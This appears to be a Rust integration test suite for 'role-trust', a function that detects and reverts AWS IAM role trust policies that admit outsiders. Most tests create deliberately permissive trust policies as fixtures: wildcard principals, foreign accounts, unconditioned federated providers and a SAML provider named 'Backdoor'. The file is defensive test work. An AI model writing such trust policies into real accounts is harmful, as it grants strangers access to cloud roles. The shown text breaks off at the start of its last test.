//! The function `role-trust` from end to end: roles made in the stand-in account, the function's own code against it over the wire, and
//! then the trust policies, the calls and the mails.

#![expect(clippy::unwrap_used, reason = "a test fails by panicking, also in its helpers")]

use std::fs;
use std::path::Path;
use std::time::Duration;

use aws_sdk_iam::Client;
use chrono::TimeDelta;
use role_trust::RoleTrust;
use rules::Outcome::{Alert, Failed, Reverted};
use rules::policy;
use rules::policy::is_the_same;
use runtime::Verdict::{Exempt, Ignored, Resent, Unreadable, Violation};
use sandbox::{Fault, StandIn};
use serde_json::{Value, json};
use tests::{ACCOUNT, DEVELOPER, Process, Ran, Stage, access_finding, event, expected, publish, refused, unique};
use tokio::time::sleep;

const FOREIGN: &str = "arn:aws:iam::999988887777:root";
const OWN: &str = "arn:aws:iam::123456789012:root";
const REVERT: &[(&str, &str)] = &[("ROLE_TRUST_MODE", "revert")];

// ---------------------------------------------------------------------------------------------------------
// The account and the events

/// A role in a stand-in account, and the function.
struct Scene {
    stage: Stage,
    iam: Client,
    name: String,
}

impl Scene {
    async fn new() -> Self {
        Self::of(Stage::new().await)
    }

    fn of(stage: Stage) -> Self {
        let iam = Client::new(&stage.admin);
        let name = format!("role-{}", unique());
        Self { stage, iam, name }
    }

    /// A new process of the function.
    fn process(&self, settings: &[(&str, &str)]) -> Process<RoleTrust> {
        self.stage.process(RoleTrust::new, settings)
    }

    /// A process that gets what happens now an hour later: it waits for nothing to become visible.
    fn late_process(&self, settings: &[(&str, &str)]) -> Process<RoleTrust> {
        self.stage.process_ahead(RoleTrust::new, settings, TimeDelta::try_hours(1).unwrap())
    }

    /// Hands an event to a new process.
    async fn run(&self, settings: &[(&str, &str)], event: &Value) -> Ran {
        self.stage.run(&self.process(settings), event).await
    }

    async fn run_late(&self, settings: &[(&str, &str)], event: &Value) -> Ran {
        self.stage.run(&self.late_process(settings), event).await
    }

    /// Makes the role.
    async fn create(&self, document: &Value) -> Value {
        let made = self.iam.create_role().role_name(&self.name).assume_role_policy_document(document.to_string());
        let made = made.send().await.unwrap().role.unwrap();
        let request = json!({"roleName": self.name, "assumeRolePolicyDocument": document.to_string()});
        let response = json!({"role": {"path": "/", "roleName": self.name, "roleId": made.role_id, "arn": made.arn,
            "createDate": "Nov 22, 2026 2:02:40 PM"}});
        event("iam", "CreateRole", request, response)
    }

    /// Writes the role's trust policy.
    async fn update(&self, document: &Value) -> Value {
        let call = self.iam.update_assume_role_policy().role_name(&self.name).policy_document(document.to_string());
        call.send().await.unwrap();
        let request = json!({"roleName": self.name, "policyDocument": document.to_string()});
        event("iam", "UpdateAssumeRolePolicy", request, Value::Null)
    }

    async fn delete(&self) {
        self.iam.delete_role().role_name(&self.name).send().await.unwrap();
    }

    /// The role's trust policy now.
    async fn trust(&self) -> Value {
        let role = self.iam.get_role().role_name(&self.name).send().await.unwrap().role.unwrap();
        policy::parse(&Value::from(role.assume_role_policy_document.unwrap())).unwrap()
    }

    /// The function's read of the role.
    fn read(&self) -> String {
        expected("GetRole", &[("RoleName", &self.name)])
    }

    /// The function's write of the trust policy.
    fn written(&self, document: &Value) -> String {
        let document = document.to_string();
        expected("UpdateAssumeRolePolicy", &[("RoleName", &self.name), ("PolicyDocument", &document)])
    }

    /// The function's next call of that action is refused, and not carried out.
    fn deny(&self, action: &str) {
        self.stage.inject(Fault { status: 403, ..Fault::new("", action, "AccessDenied") });
    }
}

/// The function's question for the account's organization.
fn asked() -> String {
    expected("DescribeOrganization", &[])
}

/// The same in an account that is in none.
fn asked_in_vain() -> String {
    refused(asked(), 400)
}

/// Its question for an account that is of no organization, or of which it is not told.
fn no_member() -> String {
    refused(expected("DescribeAccount", &[("AccountId", "999988887777")]), 400)
}

fn document(statements: &[Value]) -> Value {
    json!({"Version": "2012-10-17", "Statement": statements})
}

fn allow(principal: Value) -> Value {
    json!({"Effect": "Allow", "Principal": principal, "Action": "sts:AssumeRole"})
}

fn allow_if(principal: Value, condition: Value) -> Value {
    json!({"Effect": "Allow", "Principal": principal, "Action": "sts:AssumeRole", "Condition": condition})
}

fn federated(provider: &str, condition: Value) -> Value {
    json!({"Effect": "Allow", "Principal": {"Federated": provider}, "Action": "sts:AssumeRoleWithWebIdentity",
        "Condition": condition})
}

fn ec2() -> Value {
    allow(json!({"Service": "ec2.amazonaws.com"}))
}

/// What takes the place of a trust policy that would be left without statements.
fn nobody() -> Value {
    json!({"Effect": "Deny", "Principal": {"AWS": "*"}, "Action": "sts:AssumeRole"})
}

// ---------------------------------------------------------------------------------------------------------
// Alert, the default

#[tokio::test]
async fn by_default_everything_is_told_and_nothing_changed() {
    let github = "arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com";
    let sure = [
        (allow(json!("*")), "ALERT: HIGH: ", "trusts everyone"),
        (allow(json!({"AWS": "*"})), "ALERT: HIGH: ", "trusts everyone"),
        (
            allow_if(json!("*"), json!({"StringEquals": {"sts:ExternalId": "x"}})),
            "ALERT: HIGH: ",
            "StringEquals sts:ExternalId x",
        ),
        (
            json!({"Effect": "Allow", "NotPrincipal": {"AWS": OWN}, "Action": "sts:AssumeRole"}),
            "ALERT: HIGH: ",
            "everyone but",
        ),
        (federated("cognito-identity.amazonaws.com", json!({})), "ALERT: HIGH: ", "cognito-identity.amazonaws.com:aud"),
        (federated(github, json!({})), "ALERT: HIGH: ", "token.actions.githubusercontent.com:sub"),
        (federated("arn:aws:iam::999988887777:saml-provider/P", json!({})), "ALERT: MEDIUM: ", "999988887777"),
        (
            allow_if(json!("*"), json!({"StringLike": {"aws:userid": "AROADBQP57FF2AEXAMPLE:*"}})),
            "ALERT: LOW: ",
            "somebody unknown",
        ),
        (
            federated(github, json!({"StringLike": {"token.actions.githubusercontent.com:sub": "repo:octo-org/*"}})),
            "ALERT: LOW: ",
            "if StringLike token.actions.githubusercontent.com:sub repo:octo-org/*",
        ),
    ];
    for (statement, words, text) in sure {
        let scene = Scene::new().await;
        let document = document(&[statement]);
        let ran = scene.run(&[], &scene.create(&document).await).await;
        ran.is(Violation, &[Alert], &[scene.read(), publish()]);
        ran.mail_says(&[words, text, &scene.name, "Nothing was changed, because RoleTrustMode is `alert`."]);
        assert_eq!(scene.trust().await, document);
    }
    let if_not_own = [
        (allow(json!({"AWS": "999988887777"})), "trusts 999988887777"),
        (allow(json!({"AWS": [OWN, "arn:aws:iam::999988887777:role/R"]})), "999988887777"),
        (allow(json!({"AWS": "arn:aws:sts::999988887777:assumed-role/R/s"})), "999988887777"),
        (
            allow_if(json!("*"), json!({"StringEquals": {"aws:PrincipalOrgID": "o-abcdefghij"}})),
            "organization o-abcdefghij",
        ),
        (
            allow_if(json!("*"), json!({"StringEquals": {"aws:PrincipalAccount": "999988887777"}})),
            "account 999988887777",
        ),
    ];
    for (statement, text) in if_not_own {
        let scene = Scene::new().await;
        let document = document(&[statement, ec2()]);
        let ran = scene.run(&[], &scene.create(&document).await).await;
        ran.is(Violation, &[Alert], &[asked_in_vain(), scene.read(), publish()]);
        ran.mail_says(&["ALERT: MEDIUM: ", text, "With `revert` it would have:"]);
        assert!(is_the_same(&scene.trust().await, &document));
    }
}

/// No word of a call's target or result is English.
#[tokio::test]
async fn a_mail_in_japanese_tells_what_the_calls_gave() {
    let scene = Scene::new().await;
    let event = scene.create(&document(&[allow(json!({"AWS": OWN})), allow(json!({"AWS": FOREIGN}))])).await;
    let ran = scene.run(&[("ROLE_TRUST_MODE", "revert"), ("ALERT_LANGUAGE", "ja")], &event).await;
    let name = &scene.name;
    ran.mail_says(&[
        "CreateRole により、ロール ",
        &format!("ロールの信頼ポリシーから次のプリンシパルを削除しました:\n  - {FOREIGN}\n"),
        ". DescribeOrganization: 組織に属していない (",
        &format!(". GetRole {name}: 成功 ("),
        &format!(". UpdateAssumeRolePolicy {name}: 成功 ("),
    ]);
    assert!(ran.handled.reason.is_ascii(), "{ran:#?}");
}

#[tokio::test]
async fn identity_providers_are_told_in_every_mode_without_a_call() {
    let scene = Scene::new().await;
    let arn = "arn:aws:iam::123456789012:saml-provider/Backdoor";
    let oidc = "arn:aws:iam::123456789012:oidc-provider/login.example.net";
    let events = [
        (
            "CreateSAMLProvider",
            json!({"name": "Backdoor", "sAMLMetadataDocument": "<EntityDescriptor entityID=\"https://idp.example\">"}),
            json!({"sAMLProviderArn": arn}),
            "https://idp.example",
        ),
        (
            "UpdateSAMLProvider",
            json!({"sAMLProviderArn": arn}),
            json!({"sAMLProviderArn": arn}),
            "ALERT: HIGH: SAML provider changed: Backdoor",
        ),
        (
            "CreateOpenIDConnectProvider",
            json!({"url": "https://login.example.net", "clientIDList": ["a"], "thumbprintList": []}),
            json!({"openIDConnectProviderArn": oidc}),
            "delete-open-id-connect-provider --open-id-connect-provider-arn=arn:aws:iam::123456789012",
        ),
        (
            "AddClientIDToOpenIDConnectProvider",
            json!({"openIDConnectProviderArn": oidc, "clientID": "b"}),
            Value::Null,
            "--client-id=b",
        ),
        (
            "UpdateOpenIDConnectProviderThumbprint",
            json!({"openIDConnectProviderArn": oidc, "thumbprintList": ["f"]}),
            Value::Null,
            "thumbprints",
        ),
    ];
    for (name, request, response, text) in events {
        let event = event("iam", name, request, response);
        for settings in [&[][..], REVERT, &[("ROLE_TRUST_MODE", "revert"), ("ROLLOUT", "observe")]] {
            let ran = scene.run(settings, &event).await;
            ran.is(Violation, &[Alert], &[publish()]);
            ran.mail_says(&[text, "snapback only tells of identity providers"]);
            ran.mail_does_not_say(&["would have"]);
        }
        scene.run(&[("ROLE_TRUST_MODE", "off")], &event).await.is(Ignored, &[], &[]);
        scene.run(&[("TRUSTED_ACTORS", DEVELOPER)], &event).await.is(Exempt, &[], &[]);
    }
}

#[tokio::test]
async fn switched_off_trusted_or_refused_it_costs_no_call() {
    let scene = Scene::new().await;
    let document = document(&[allow(json!("*"))]);
    let mut event = scene.create(&document).await;
    scene.run(&[("ROLE_TRUST_MODE", "off")], &event).await.is(Ignored, &[], &[]);
    scene.run(&[("ROLE_TRUST_MODE", "revert"), ("TRUSTED_ACTORS", DEVELOPER)], &event).await.is(Exempt, &[], &[]);
    event["detail"]["errorCode"] = json!("AccessDenied");
    scene.run(REVERT, &event).await.is(Ignored, &[], &[]);
    assert_eq!(scene.trust().await, document);
}

#[tokio::test]
async fn those_inside_cost_no_call() {
    for statement in [
        ec2(),
        allow(json!({"AWS": [OWN, ACCOUNT, "arn:aws:iam::111122223333:role/R"]})),
        allow_if(json!("*"), json!({"StringEquals": {"aws:PrincipalAccount": ACCOUNT}})),
    ] {
        let scene = Scene::new().await;
        let event = scene.create(&document(&[statement])).await;
        let settings = [("ROLE_TRUST_MODE", "revert"), ("TRUSTED_ACCOUNTS", "111122223333")];
        scene.run(&settings, &event).await.is(Ignored, &[], &[]);
    }
}

// ---------------------------------------------------------------------------------------------------------
// Revert

#[tokio::test]
async fn of_two_principals_the_outsider_goes() {
    let scene = Scene::new().await;
    let mfa = json!({"Bool": {"aws:MultiFactorAuthPresent": "true"}});
    let event = scene.create(&document(&[allow_if(json!({"AWS": [OWN, FOREIGN]}), mfa.clone())])).await;
    let left = document(&[allow_if(json!({"AWS": [OWN]}), mfa)]);

    let ran = scene.run(REVERT, &event).await;
    ran.is(
        Violation,
        &[Reverted],
        &[asked_in_vain(), scene.read(), scene.read(), scene.written(&left), scene.read(), publish()],
    );
    ran.mail_says(&[
        &format!("REVERTED: role {} trusted 999988887777", scene.name),
        "if Bool aws:MultiFactorAuthPresent true",
        "AWSRevokeOlderSessions",
        &format!("aws iam list-attached-role-policies --role-name={}", scene.name),
        "TrustedAccounts: 999988887777",
    ]);
    assert_eq!(scene.trust().await, left);
}

#[tokio::test]
async fn of_two_statements_the_outsiders_goes() {
    let scene = Scene::new().await;
    scene.create(&document(&[ec2()])).await;
    let event = scene.update(&document(&[ec2(), allow(json!({"AWS": FOREIGN}))])).await;
    let left = document(&[ec2()]);
    let calls = [asked_in_vain(), scene.read(), scene.read(), scene.written(&left), scene.read(), publish()];
    scene.run(REVERT, &event).await.is(Violation, &[Reverted], &calls);
    assert_eq!(scene.trust().await, left);
}

#[tokio::test]
async fn a_wildcard_goes_and_the_service_beside_it_stays() {
    let scene = Scene::new().await;
    let event = scene.create(&document(&[allow(json!({"AWS": "*", "Service": "ec2.amazonaws.com"}))])).await;
    let left = document(&[ec2()]);
    let calls = [scene.read(), scene.read(), scene.written(&left), scene.read(), publish()];
    scene.run(REVERT, &event).await.is(Violation, &[Reverted], &calls);
    assert_eq!(scene.trust().await, left);
}

#[tokio::test]
async fn where_nobody_would_be_left_nobody_is_let_in() {
    for principal in [json!("*"), json!({"AWS": ["*"]}), json!({"AWS": "*", "Federated": "graph.facebook.com"})] {
        let scene = Scene::new().await;
        let event = scene.create(&document(&[allow(principal.clone()), allow(principal)])).await;
        let left = document(&[nobody()]);
        let calls = [scene.read(), scene.read(), scene.written(&left), scene.read(), publish()];
        scene.run(REVERT, &event).await.is(Violation, &[Reverted], &calls);
        assert_eq!(scene.trust().await, left);
    }
}

#[tokio::test]
async fn a_statement_that_stands_alone_stays_alone() {
    let scene = Scene::new().await;
    let written = json!({"Version": "2012-10-17", "Statement": allow(json!({"AWS": [FOREIGN, OWN]}))});
    let event = scene.create(&written).await;
    scene.run(REVERT, &event).await.mail_says(&["REVERTED: "]);
    let left = json!({"Version": "2012-10-17", "Statement": allow(json!({"AWS": [OWN]}))});
    assert_eq!(scene.trust().await, left);
}

#[tokio::test]
async fn what_snapback_writes_brings_no_further_change() {
    let scene = Scene::new().await;
    let event = scene.create(&document(&[allow(json!({"AWS": ["*", OWN]})), allow(json!({"AWS": "*"}))])).await;
    scene.run(REVERT, &event).await.mail_says(&["REVERTED: "]);
    let own = json!({"roleName": scene.name, "policyDocument": scene.trust().await.to_string()});
    let own = tests::event("iam", "UpdateAssumeRolePolicy", own, Value::Null);
    scene.run(REVERT, &own).await.is(Ignored, &[], &[]);
    let own = json!({"roleName": scene.name, "policyDocument": document(&[nobody()]).to_string()});
    scene.run(REVERT, &tests::event("iam", "UpdateAssumeRolePolicy", own, Value::Null)).await.is(Ignored, &[], &[]);
}

#[tokio::test]
async fn ids_of_deleted_principals_do_not_keep_the_door_open() {
    let scene = Scene::new().await;
    let user = format!("user-{}", unique());
    let made = scene.iam.create_user().user_name(&user).send().await.unwrap().user.unwrap();
    let event = scene.create(&document(&[ec2(), allow(json!({"AWS": ["*", OWN, made.arn]}))])).await;
    scene.iam.delete_user().user_name(&user).send().await.unwrap();
    let with_id = document(&[ec2(), allow(json!({"AWS": [OWN, made.user_id]}))]);
    let left = document(&[ec2(), allow(json!({"AWS": [OWN]}))]);
    let ran = scene.run(REVERT, &event).await;
    let refused = refused(scene.written(&with_id), 400);
    let calls = [scene.read(), scene.read(), refused, scene.written(&left), scene.read(), publish()];
    ran.is(Violation, &[Reverted], &calls);
    ran.mail_says(&[
        "IAM refuses to save the ids of deleted principals",
        &made.user_id,
        "Nothing else in it was changed.",
    ]);
    assert_eq!(scene.trust().await, left);
}

#[tokio::test]
async fn who_is_named_by_an_id_or_renamed_goes() {
    let scene = Scene::new().await;
    let role = "arn:aws:iam::999988887777:role/evil";
    let mut event = scene.create(&document(&[ec2(), allow(json!({"AWS": role}))])).await;
    // As it was written; IAM shows the ARN.
    let by_id = document(&[ec2(), allow(json!({"AWS": "AROADBQP57FF2AEXAMPLE"}))]);
    event["detail"]["requestParameters"]["assumeRolePolicyDocument"] = json!(by_id.to_string());
    let ran = scene.run(REVERT, &event).await;
    let left = document(&[ec2()]);
    let calls = [scene.read(), asked_in_vain(), scene.read(), scene.written(&left), scene.read(), publish()];
    ran.is(Violation, &[Reverted], &calls);
    ran.mail_says(&[&format!("REVERTED: role {} trusted 999988887777", scene.name), role]);
    assert_eq!(scene.trust().await, left);

    let event = scene.update(&document(&[ec2(), allow(json!({"AWS": "arn:aws:iam::999988887777:user/a"}))])).await;
    scene.update(&document(&[ec2(), allow(json!({"AWS": "arn:aws:iam::999988887777:user/b"}))])).await;
    scene.run(REVERT, &event).await.mail_says(&["REVERTED: ", "user/b"]);
    assert_eq!(scene.trust().await, left);
}

#[tokio::test]
async fn the_id_of_an_own_role_lets_in_nobody_from_outside() {
    let scene = Scene::new().await;
    let mut event = scene.create(&document(&[allow(json!({"AWS": OWN}))])).await;
    let own = document(&[allow(json!({"AWS": event["detail"]["responseElements"]["role"]["roleId"]}))]);
    event["detail"]["requestParameters"]["assumeRolePolicyDocument"] = json!(own.to_string());
    scene.update(&own).await;
    let ran = scene.run_late(REVERT, &event).await;
    ran.is(Violation, &[Alert], &[scene.read(), publish()]);
    ran.mail_says(&["nobody from outside whom this event let in is in the trust policy now"]);
}

#[tokio::test]
async fn what_was_written_again_since_is_left_to_its_own_event() {
    let scene = Scene::new().await;
    let event = scene.create(&document(&[allow(json!({"AWS": FOREIGN}))])).await;
    let external_id = json!({"StringEquals": {"sts:ExternalId": "x"}});
    let rewritten = document(&[allow_if(json!({"AWS": FOREIGN}), external_id)]);
    scene.update(&rewritten).await;
    let ran = scene.run_late(REVERT, &event).await;
    ran.is(Violation, &[Alert], &[asked_in_vain(), scene.read(), publish()]);
    ran.mail_says(&["ALERT: MEDIUM: ", "trusts 999988887777 by another change", "which has its own event"]);
    ran.mail_does_not_say(&["already gone"]);
    assert_eq!(scene.trust().await, rewritten);
}

#[tokio::test]
async fn whom_a_denial_keeps_out_is_left_to_a_person() {
    let scene = Scene::new().await;
    let deny = |principal: &str| json!({"Effect": "Deny", "Principal": {"AWS": principal}, "Action": "sts:AssumeRole"});
    let (both, foreign) = (allow(json!({"AWS": ["*", FOREIGN]})), allow(json!({"AWS": [FOREIGN]})));
    let event = scene.create(&document(&[both, deny(FOREIGN)])).await;
    let left = document(&[foreign, deny(FOREIGN)]);
    let ran = scene.run(REVERT, &event).await;
    let calls = [asked_in_vain(), scene.read(), scene.read(), scene.written(&left), scene.read(), publish()];
    ran.is(Violation, &[Reverted], &calls);
    ran.mail_says(&["Still in it, because a Deny in the trust policy keeps them out"]);
    assert_eq!(scene.trust().await, left);

    let mut perimeter = deny("*");
    perimeter["Condition"] = json!({"StringNotEquals": {"aws:PrincipalAccount": ACCOUNT}});
    let document = document(&[allow(json!("*")), perimeter]);
    let event = scene.update(&document).await;
    let ran = scene.run(REVERT, &event).await;
    ran.is(Violation, &[Alert], &[scene.read(), publish()]);
    ran.mail_says(&["ALERT: HIGH: ", "Nothing was changed.", "a Deny in the trust policy keeps them out"]);
    assert_eq!(scene.trust().await, document);
}

#[tokio::test]
async fn a_denial_of_something_else_holds_nothing_back() {
    let scene = Scene::new().await;
    let denied = json!({"Effect": "Deny", "Principal": {"Service": "ec2.amazonaws.com"}, "Action": "sts:TagSession"});
    let event = scene.create(&document(&[allow(json!("*")), denied.clone()])).await;
    scene.run(REVERT, &event).await.mail_says(&["REVERTED: "]);
    assert_eq!(scene.trust().await, document(&[denied]));
}

#[tokio::test]
async fn whom_others_let_in_since_has_an_event_of_its_own() {
    let scene = Scene::new().await;
    let event = scene.create(&document(&[allow(json!({"AWS": FOREIGN}))])).await;
    let other = "arn:aws:iam::888877776666:root";
    scene.update(&document(&[allow(json!({"AWS": [FOREIGN, other]}))])).await;
    let left = document(&[allow(json!({"AWS": [other]}))]);
    let ran = scene.run(REVERT, &event).await;
    ran.is(
        Violation,
        &[Alert],
        &[asked_in_vain(), scene.read(), scene.read(), scene.written(&left), scene.read(), publish()],
    );
    ran.mail_says(&["reverted, others let in since", other]);
    assert_eq!(scene.trust().await, left);
}

#[tokio::test]
async fn through_cloudformation_and_as_a_bare_record() {
    let scene = Scene::new().await;
    let mut event = scene.create(&document(&[ec2(), allow(json!("*"))])).await;
    for field in ["sourceIPAddress", "userAgent"] {
        event["detail"][field] = json!("cloudformation.amazonaws.com");
    }
    event["detail"]["userIdentity"]["invokedBy"] = json!("cloudformation.amazonaws.com");
    scene
        .run(REVERT, &event["detail"])
        .await
        .mail_says(&["REVERTED: ", "Through:        cloudformation.amazonaws.com"]);
    assert_eq!(scene.trust().await, document(&[ec2()]));
}

#[tokio::test]
async fn an_event_that_cannot_be_read_is_told() {
    let scene = Scene::new().await;
    let event =
        event("iam", "UpdateAssumeRolePolicy", json!({"roleName": scene.name, "policyDocument": "{"}), Value::Null);
    let ran = scene.run(REVERT, &event).await;
    ran.is(Unreadable, &[Alert], &[publish()]);
    ran.mail_says(&["`policyDocument` in the request is no JSON"]);
}

// ---------------------------------------------------------------------------------------------------------
// Rollout

#[tokio::test]
async fn observed_only_it_says_what_would_have_been_done() {
    let scene = Scene::new().await;
    let document = document(&[ec2(), allow(json!("*"))]);
    let event = scene.create(&document).await;
    let ran = scene.run(&[("ROLE_TRUST_MODE", "revert"), ("ROLLOUT", "observe")], &event).await;
    ran.is(Violation, &[Alert], &[scene.read(), publish()]);
    ran.mail_says(&["would have reverted: role", "Rollout is `observe`", "take * out of the trust policy"]);
    // In mode `alert` nothing would have been reverted.
    let ran = scene.run(&[("ROLLOUT", "observe")], &event).await;
    ran.is(Violation, &[Alert], &[scene.read(), publish()]);
    ran.mail_does_not_say(&["would have reverted"]);
    assert_eq!(scene.trust().await, document);
}

// ---------------------------------------------------------------------------------------------------------
// The organization

/// A scene in an account that is in an organization, whose id comes with it.
async fn in_an_organization(stand_in: &StandIn) -> (Scene, String) {
    let scene = Scene::of(Stage::on(stand_in).await);
    let organizations = aws_sdk_organizations::Client::new(&scene.stage.admin);
    let made = organizations.create_organization().send().await.unwrap().organization.unwrap();
    (scene, made.id.unwrap())
}

#[tokio::test]
async fn the_own_organization_is_inside_and_asked_for_once() {
    let stand_in = StandIn::start(&mut |_| {}).unwrap();
    let (scene, id) = in_an_organization(&stand_in).await;
    let process = scene.process(REVERT);
    let own = document(&[
        allow_if(json!("*"), json!({"StringEquals": {"aws:PrincipalOrgID": id}})),
        allow_if(
            json!({"AWS": FOREIGN}),
            json!({"ForAnyValue:StringLike": {"aws:PrincipalOrgPaths": format!("{id}/*")}}),
        ),
    ]);
    let event = scene.create(&own).await;
    scene.stage.run(&process, &event).await.is(Ignored, &[], &[asked()]);
    assert_eq!(scene.trust().await, own);

    // Another organization, and an account that is not said to be of the own one. It is known by now.
    let own_part = allow_if(json!("*"), json!({"StringEquals": {"aws:PrincipalOrgID": id}}));
    let event = scene
        .update(&document(&[
            own_part.clone(),
            allow_if(json!("*"), json!({"StringEquals": {"aws:PrincipalOrgID": [id, "o-zyxwvutsrq"]}})),
            allow(json!({"AWS": FOREIGN})),
            allow_if(json!("*"), json!({"StringEqualsIfExists": {"aws:PrincipalOrgID": id}})),
        ]))
        .await;
    let left = document(&[own_part]);
    let calls = [no_member(), scene.read(), scene.read(), scene.written(&left), scene.read(), publish()];
    scene.stage.run(&process, &event).await.is(Violation, &[Reverted], &calls);
    assert_eq!(scene.trust().await, left);
}

#[tokio::test]
async fn a_member_of_the_own_organization_is_inside() {
    let stand_in = StandIn::start(&mut |_| {}).unwrap();
    let (scene, _) = in_an_organization(&stand_in).await;
    let organizations = aws_sdk_organizations::Client::new(&scene.stage.admin);
    let made = organizations.create_account().account_name("x").email("x@example.com").send().await.unwrap();
    let member = made.create_account_status.unwrap().account_id.unwrap();
    let asked_of_member = expected("DescribeAccount", &[("AccountId", &member)]);
    let event = scene.create(&document(&[allow(json!({"AWS": member}))])).await;
    for settings in [REVERT, &[]] {
        scene.run(settings, &event).await.is(Ignored, &[], &[asked(), asked_of_member.clone()]);
    }

    let event = scene.update(&document(&[allow(json!({"AWS": [member, FOREIGN]}))])).await;
    let left = document(&[allow(json!({"AWS": [format!("arn:aws:iam::{member}:root")]}))]);
    let ran = scene.run(REVERT, &event).await;
    assert_eq!(ran.told().iter().filter(|call| **call == asked_of_member || **call == no_member()).count(), 2);
    ran.mail_says(&["REVERTED: "]);
    assert_eq!(scene.trust().await, left);
}

#[tokio::test]
async fn who_may_be_a_member_is_told_and_not_removed() {
    let stand_in = StandIn::start(&mut |_| {}).unwrap();
    let (scene, _) = in_an_organization(&stand_in).await;
    let denied = || {
        scene.stage.inject(Fault { status: 400, ..Fault::new("", "DescribeAccount", "AccessDeniedException") });
    };
    denied();
    let foreign = document(&[allow(json!({"AWS": [FOREIGN]}))]);
    let event = scene.create(&foreign).await;
    let ran = scene.run(REVERT, &event).await;
    ran.is(Violation, &[Alert], &[asked(), no_member(), scene.read(), publish()]);
    ran.mail_says(&["ALERT: MEDIUM: ", "they may be of this account's organization", "TrustedAccounts: 999988887777"]);
    assert_eq!(scene.trust().await, foreign);

    // A wildcard is outside in any case.
    denied();
    let event = scene.update(&document(&[allow(json!({"AWS": ["*", FOREIGN]}))])).await;
    let ran = scene.run(REVERT, &event).await;
    let calls = [asked(), no_member(), scene.read(), scene.read(), scene.written(&foreign), scene.read(), publish()];
    ran.is(Violation, &[Reverted], &calls);
    ran.mail_says(&["Still in it, because it cannot be told who they are:"]);
    assert_eq!(scene.trust().await, foreign);
}

#[tokio::test]
async fn an_account_that_joins_an_organization_is_noticed() {
    let stand_in = StandIn::start(&mut |_| {}).unwrap();
    let scene = Scene::of(Stage::on(&stand_in).await);
    let process = scene.process(&[]);
    let event = scene.create(&document(&[allow(json!({"AWS": FOREIGN}))])).await;
    scene.stage.run(&process, &event).await.is(Violation, &[Alert], &[asked_in_vain(), scene.read(), publish()]);
    let organizations = aws_sdk_organizations::Client::new(&scene.stage.admin);
    let id = organizations.create_organization().send().await.unwrap().organization.unwrap().id.unwrap();
    let own = allow_if(json!("*"), json!({"StringEquals": {"aws:PrincipalOrgID": id}}));
    let event = scene.update(&document(&[own])).await;
    scene.stage.run(&process, &event).await.is(Ignored, &[], &[asked()]);
}

#[tokio::test]
async fn an_organization_that_somebody_narrowed_to_since_is_asked_for_too() {
    let stand_in = StandIn::start(&mut |_| {}).unwrap();
    let (scene, id) = in_an_organization(&stand_in).await;
    let event = scene.create(&document(&[allow(json!("*"))])).await;
    let narrowed = document(&[allow_if(json!("*"), json!({"StringEquals": {"aws:PrincipalOrgID": id}}))]);
    scene.update(&narrowed).await;
    let ran = scene.run_late(REVERT, &event).await;
    ran.is(Violation, &[Alert], &[scene.read(), asked(), publish()]);
    ran.mail_says(&["already gone"]);
    ran.mail_does_not_say(&["by another change"]);
    assert_eq!(scene.trust().await, narrowed);
}

#[tokio::test]
async fn an_organization_that_cannot_be_read_is_told_and_nobody_removed_by_guess() {
    let scene = Scene::new().await;
    let condition = json!({"StringEquals": {"aws:PrincipalOrgID": "o-abcdefghij"}});
    let document = document(&[allow_if(json!("*"), condition.clone())]);
    let event = scene.create(&document).await;
    let denied = || {
        scene.stage.inject(Fault { status: 400, ..Fault::new("", "DescribeOrganization", "AccessDeniedException") });
    };
    denied();
    let ran = scene.run(&[], &event).await;
    ran.is(Violation, &[Alert], &[asked_in_vain(), scene.read(), publish()]);
    ran.mail_says(&["ALERT: MEDIUM: ", "own organization could not be told", "AccessDeniedException"]);

    denied();
    let process = scene.process(REVERT);
    let ran = scene.stage.run(&process, &event).await;
    ran.is_error(Violation, &[Failed], &[asked_in_vain(), scene.read(), publish()]);
    ran.mail_says(&["AccessDeniedException", "organization o-abcdefghij"]);
    assert_eq!(scene.trust().await, document);

    // Lambda tries again, and this time it can be read.
    let left = self::document(&[nobody()]);
    let calls = [asked_in_vain(), scene.read(), scene.read(), scene.written(&left), scene.read(), publish()];
    scene.stage.run(&process, &event).await.is(Violation, &[Reverted], &calls);
    assert_eq!(scene.trust().await, left);
}

#[tokio::test]
async fn who_is_surely_outside_goes_even_if_the_organization_cannot_be_read() {
    let scene = Scene::new().await;
    let event = scene.create(&document(&[allow(json!("*")), allow(json!({"AWS": FOREIGN}))])).await;
    scene.stage.inject(Fault { status: 400, ..Fault::new("", "DescribeOrganization", "AccessDeniedException") });
    let left = document(&[allow(json!({"AWS": FOREIGN}))]);
    let ran = scene.run(REVERT, &event).await;
    let calls = [asked_in_vain(), scene.read(), scene.read(), scene.written(&left), scene.read(), publish()];
    ran.is_error(Violation, &[Failed], &calls);
    ran.mail_says(&["may still trust 999988887777", "This was carried out:", "take * out of the trust policy"]);
    assert_eq!(scene.trust().await, left);
}

// ---------------------------------------------------------------------------------------------------------
// Twice, late, early

#[tokio::test]
async fn twice_in_one_process_is_told_once() {
    for (settings, outcome, calls) in [(&[][..], Alert, 1), (REVERT, Reverted, 4)] {
        let scene = Scene::new().await;
        let process = scene.process(settings);
        let event = scene.create(&document(&[ec2(), allow(json!("*"))])).await;
        let first = scene.stage.run(&process, &event).await;
        assert_eq!(first.calls.len(), calls + 1);
        first.mail_says(&[outcome.words()]);
        let state = scene.trust().await;
        scene.stage.run(&process, &event).await.is(Violation, &[], &[scene.read()]);
        assert_eq!(scene.trust().await, state);
    }
}

#[tokio::test]
async fn twice_in_two_processes_ends_the_same() {
    let scene = Scene::new().await;
    let event = scene.create(&document(&[ec2(), allow(json!({"AWS": FOREIGN}))])).await;
    scene.run(REVERT, &event).await.mail_says(&["REVERTED: "]);
    let again = scene.run_late(REVERT, &event).await;
    again.is(Violation, &[Alert], &[asked_in_vain(), scene.read(), publish()]);
    again.mail_says(&["already gone", "nobody from outside whom this event let in"]);
    assert_eq!(scene.trust().await, document(&[ec2()]));
}

#[tokio::test]
async fn two_processes_at_once_end_the_same() {
    let scene = Scene::new().await;
    let event = scene.create(&document(&[ec2(), allow(json!("*"))])).await;
    let (one, other) = (scene.process(REVERT), scene.process(REVERT));
    let (one, other) = tokio::join!(Box::pin(one.handle(&event)), Box::pin(other.handle(&event)));
    for handled in [one, other] {
        assert_eq!(handled.error, None, "{handled:#?}");
    }
    assert_eq!(scene.trust().await, document(&[ec2()]));
}

#[tokio::test]
async fn what_is_let_in_again_goes_again() {
    let scene = Scene::new().await;
    let process = scene.process(REVERT);
